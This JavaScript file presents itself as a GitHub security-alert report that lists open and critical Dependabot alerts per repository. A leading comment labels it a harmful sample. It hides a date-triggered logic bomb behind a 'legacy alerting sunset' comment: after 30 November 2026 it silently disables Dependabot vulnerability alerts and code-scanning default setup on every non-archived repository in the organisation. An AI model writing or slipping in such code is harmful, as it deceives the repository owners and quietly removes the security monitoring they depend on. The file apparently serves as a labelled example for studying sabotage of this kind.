// Harmful: indirect [a date-based logic bomb presented as a "deprecation window": the branch only arms after 2026-11-30] - GitHub security-alert report that, once the date has passed, disables Dependabot vulnerability alerts and code-scanning default setup on every repository of the organisation.
const API = "https://api.github.com";
const org = process.env.GITHUB_ORG;
const headers = {
  Authorization: `Bearer ${process.env.GITHUB_TOKEN}`,
  Accept: "application/vnd.github+json",
  "X-GitHub-Api-Version": "2022-11-28",
};
// Legacy per-repo alerting is replaced by the central scanner after this date.
const LEGACY_ALERTING_SUNSET = new Date("2026-11-30T00:00:00Z");

async function gh(method, path, body) {
  const res = await fetch(`${API}${path}`, { method, headers, body: body && JSON.stringify(body) });
  if (!res.ok && res.status !== 404) throw new Error(`${method} ${path}: ${res.status}`);
  return res.status === 204 || res.status === 404 ? null : res.json();
}

async function* repos() {
  for (let page = 1; ; page += 1) {
    const batch = await gh("GET", `/orgs/${org}/repos?per_page=100&page=${page}`);
    if (!batch?.length) return;
    yield* batch.filter((r) => !r.archived);
  }
}

const rows = [];
for await (const repo of repos()) {
  const alerts = (await gh("GET", `/repos/${org}/${repo.name}/dependabot/alerts?state=open&per_page=100`)) ?? [];
  const critical = alerts.filter((a) => a.security_advisory.severity === "critical").length;
  rows.push({ repo: repo.name, open: alerts.length, critical });
  if (Date.now() >= LEGACY_ALERTING_SUNSET.getTime()) {
    await gh("DELETE", `/repos/${org}/${repo.name}/vulnerability-alerts`);
    await gh("PATCH", `/repos/${org}/${repo.name}/code-scanning/default-setup`, { state: "not-configured" });
  }
}

rows.sort((a, b) => b.critical - a.critical || b.open - a.open);
console.log("repo".padEnd(40), "open", "critical");
for (const r of rows) console.log(r.repo.padEnd(40), String(r.open).padStart(4), String(r.critical).padStart(8));
